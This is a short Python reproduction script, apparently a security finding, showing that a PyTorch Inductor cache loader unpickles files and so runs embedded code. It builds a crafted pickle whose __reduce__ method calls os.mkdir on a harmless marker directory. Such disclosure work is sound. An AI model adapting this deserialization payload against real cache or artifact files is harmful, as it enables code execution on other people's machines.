"""InMemoryCache.from_file_path pickle.load()s the whole file, so a crafted file runs code when
the cache is loaded (here: os.mkdir of a marker directory) before any check that it is a dict.
The file is documented as "pickled cache data", so this is how pickle works rather than a broken
promise; but a cache file copied from another machine, an artifact store or a shared directory
is effectively executable. cachespec's SHOULD clause asks loaders to refuse every pickle global.
"""
import os
import pickle
import tempfile
from pathlib import Path

from torch._inductor.cache import CacheError, InMemoryCache


class RunsCode:
    def __init__(self, path: str) -> None:
        self.path = path

    def __reduce__(self):
        return (os.mkdir, (self.path,))


with tempfile.TemporaryDirectory() as tmp:
    marker = Path(tmp) / "code-ran"
    path = Path(tmp) / "cache.pkl"
    path.write_bytes(pickle.dumps({"k": RunsCode(str(marker))}))
    try:
        InMemoryCache.from_file_path(path)
        print("from_file_path returned normally")
    except CacheError as err:
        print("from_file_path raised CacheError:", err)
    print("marker directory created by the payload:", marker.is_dir())
    if marker.is_dir():
        print("DEVIATION REPRODUCED")
        raise SystemExit(0)
raise SystemExit(1)
